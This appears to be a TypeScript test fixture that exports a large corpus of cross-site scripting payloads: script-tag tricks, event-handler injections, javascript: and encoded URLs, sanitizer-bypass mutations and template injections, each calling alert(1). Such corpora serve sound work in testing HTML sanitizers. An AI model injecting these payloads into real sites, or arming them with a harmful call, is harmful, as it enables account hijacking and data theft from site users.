/**
 * Strings that are known to have run in somebody's page: from the cheat sheets of OWASP and PortSwigger, from mutations
 * that got past sanitizers, and from advisories of the libraries used here. Each would call `alert` if it came alive.
 */
const call = "alert(1)";

const tags = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=data:text/javascript,${call}></SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<SCRIPT>${call}//<</SCRIPT>`,
  `<script/xss src="data:,${call}"></script>`,
  `<script\u0009type="text/javascript">${call}</script>`,
  `<script>${call}`,
  `<script x>${call}</script 1=2`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `\\";${call};//`,
  `';${call};'`,
  `javascript:${call}`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
];

const handlers = [
  "<img src=x onerror=@>",
  `<img src="x" onerror="@">`,
  "<img src=x onerror=@//",
  `<img/src="x"/onerror=@>`,
  "<img src=x:x onerror\u000c=@>",
  `<img src="x\`><script>@</script>"\`>`,
  `<IMG """><SCRIPT>@</SCRIPT>">`,
  "<img src onerror = '@'>",
  "<image src=x onerror=@>",
  "<svg onload=@>",
  "<svg/onload=@>",
  "<svg><script>@</script></svg>",
  "<svg><script href='data:text/javascript,@' /></svg>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<svg><set onbegin=@ attributeName=x>",
  `<svg><a xlink:href="javascript:@"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#xss attributeName=href values=javascript:@ /><a id=xss><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>@</script>"></iframe></foreignObject></svg>`,
  "<svg><discard onbegin=@>",
  "<math><mtext><script>@</script></mtext></math>",
  `<math href="javascript:@">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:@">x</maction></math>`,
  "<body onload=@>",
  "<body onpageshow=@>",
  "<body onhashchange=@><a href=#x>x</a>",
  "<video src=x onerror=@>",
  "<video><source onerror=@></video>",
  "<audio src=x onerror=@></audio>",
  "<audio autoplay onloadstart=@ src=x>",
  "<input autofocus onfocus=@>",
  "<select autofocus onfocus=@>",
  "<textarea autofocus onfocus=@>",
  "<keygen autofocus onfocus=@>",
  "<button autofocus onfocus=@>x</button>",
  "<a id=x tabindex=1 onfocus=@></a>",
  "<details open ontoggle=@>x</details>",
  "<marquee onstart=@>x</marquee>",
  "<marquee loop=1 width=0 onfinish=@>x</marquee>",
  "<iframe onload=@></iframe>",
  `<iframe src="javascript:@"></iframe>`,
  `<iframe srcdoc="<script>parent.@</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.@</script>"></iframe>`,
  `<object data="javascript:@"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:@">`,
  `<embed code="data:text/html,<script>@</script>">`,
  `<link rel=stylesheet href="javascript:@">`,
  `<link rel=import href="data:text/html,<script>@</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:@">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>@</script>">`,
  `<base href="javascript:@//">`,
  `<form action="javascript:@"><input type=submit autofocus></form>`,
  `<form><button formaction="javascript:@">x</button></form>`,
  `<isindex action="javascript:@" type=image>`,
  `<table background="javascript:@"><tr><td>x</td></tr></table>`,
  `<td background="javascript:@">x</td>`,
  `<div style="background-image:url(javascript:@)">x</div>`,
  `<div style="width:expression(@)">x</div>`,
  "<style>@import 'javascript:@';</style>",
  "<style onload=@></style>",
  "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=@>x</p>",
  "<p onmouseover=@ style='position:fixed;inset:0'>x</p>",
  "<p onpointerenter=@>x</p>",
  "<p contenteditable onblur=@ onfocus=@ autofocus>x</p>",
  `<a href="javascript:@">x</a>`,
  `<a href=" javascript:@">x</a>`,
  `<a href="jav&#x09;ascript:@">x</a>`,
  `<a href="jav&#10;ascript:@">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;@">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A@">x</a>`,
  `<a href="\u0001javascript:@">x</a>`,
  `<a href="\u00a0javascript:@">x</a>`,
  `<a href="javascript&colon;@">x</a>`,
  `<a href="JaVaScRiPt:@">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>@</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:https://x/1" onclick=@>x</a>`,
  `<a href="//evil.example" onclick=@>x</a>`,
  `<a href="x" ping="javascript:@" target=_blank>x</a>`,
  `<area href="javascript:@">`,
  `<q cite="javascript:@">x</q>`,
  `<blockquote cite="javascript:@">x</blockquote>`,
  `<dialog open onclose=@>x</dialog>`,
  `<p popover id=x onbeforetoggle=@>x</p><button popovertarget=x autofocus>x</button>`,
];

/** Markup that a sanitizer reads as one thing and a browser as another. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=@>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>`,
  `<svg></p><style><a id="</style><img src=1 onerror=@>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=@></style></annotation-xml></math>`,
  `<svg><title><style><img src=x onerror=@></style></title></svg>`,
  `<svg><desc><img src=x onerror=@></desc></svg>`,
  `<textarea><img title="</textarea><img src=x onerror=@>">`,
  "<xmp><img src=x onerror=@></xmp>",
  `<xmp><p title="</xmp><svg/onload=@>">`,
  "<plaintext><img src=x onerror=@>",
  `<listing>&lt;img onerror="@" src=x&gt;</listing>`,
  `<noembed><p title="</noembed><img src=x onerror=@>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=@>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=@>"></iframe>`,
  `<select><template><script>@</script></template></select>`,
  `<template><img src=x onerror=@></template>`,
  `<option><style></option></select><img src=x onerror=@></style>`,
  `<!--><img src=x onerror=@>-->`,
  `<!--!><img src=x onerror=@>-->`,
  `<!-- --!><img src=x onerror=@>-->`,
  `<![CDATA[><img src=x onerror=@>]]>`,
  `<?xml version="1.0"?><img src=x onerror=@>`,
  `<!doctype html [<!ENTITY x "<img src=x onerror=@>">]>&x;`,
  `<p><table><p></table><a href="javascript:@">x</a></p>`,
  `<a title="<a href='x'></a><img src=x onerror=@>">x</a>`,
  `&lt;script&gt;@&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=@&amp;gt;`,
  `&#60;img src=x onerror=@&#62;`,
  `%3Cscript%3E@%3C/script%3E`,
  `\\u003cscript\\u003e@\\u003c/script\\u003e`,
  `+ADw-script+AD4-@+ADw-/script+AD4-`,
  `<p id="x" name="getElementById">x</p><form id=test><input name=attributes></form>`,
  `{{constructor.constructor('@')()}}`,
  `$\{@}`,
  `<p v-on:click="@" x-init="@" ng-init="@" data-bind="click:@">x</p>`,
  `<portal src="javascript:@">`,
  `<iframe sandbox="allow-scripts" srcdoc="<img src=x onerror=@>"></iframe>`,
  `<table><caption><style><img src=x onerror=@></style></caption></table>`,
  `<code><img src=x onerror=@></code><pre><svg onload=@></pre>`,
];

/** Events that run without a hand, each on an element that fires it (PortSwigger's cheat sheet). */
const events = `
  onafterprint:body onanimationcancel:xss onanimationend:xss onanimationiteration:xss onanimationstart:xss onauxclick:input
  onbeforecopy:a onbeforecut:a onbeforeinput:xss onbeforematch:xss onbeforeprint:body onbeforetoggle:button onbeforeunload:body
  onblur:input oncanplay:video oncanplaythrough:video onclose:dialog oncontentvisibilityautostatechange:xss oncuechange:track
  ondblclick:xss ondrag:xss ondragend:xss ondrop:xss ondurationchange:audio onended:audio onfocusin:xss onfocusout:xss
  onformdata:form onfullscreenchange:video ongotpointercapture:xss oninput:input oninvalid:input onloadeddata:video
  onloadedmetadata:video onmessage:body onmousewheel:body onpagehide:body onpagereveal:body onpaste:input onplaying:audio
  onpointerenter:xss onpointerrawupdate:xss onpopstate:body onprogress:audio onratechange:audio onreset:form onresize:body
  onscrollend:xss onscrollsnapchange:xss onsearch:input onsecuritypolicyviolation:xss onseeked:audio onselectionchange:body
  onslotchange:slot onsuspend:video ontimeupdate:audio ontransitionend:xss ontransitionrun:xss onunhandledrejection:body
  onvolumechange:audio onwaiting:video onwebkitanimationend:xss`
  .trim()
  .split(/\s+/)
  .map((pair) => pair.split(":"))
  .map(
    ([event = "", element = ""]) =>
      `<${element} ${event}=${call} id=x tabindex=1 style="animation:x 1s" src=x autofocus>x</${element}>`,
  );

export const xssCorpus: readonly string[] = [
  ...events,
  ...tags,
  ...[...handlers, ...mutations].map((text) => text.replaceAll("@", call)),
];
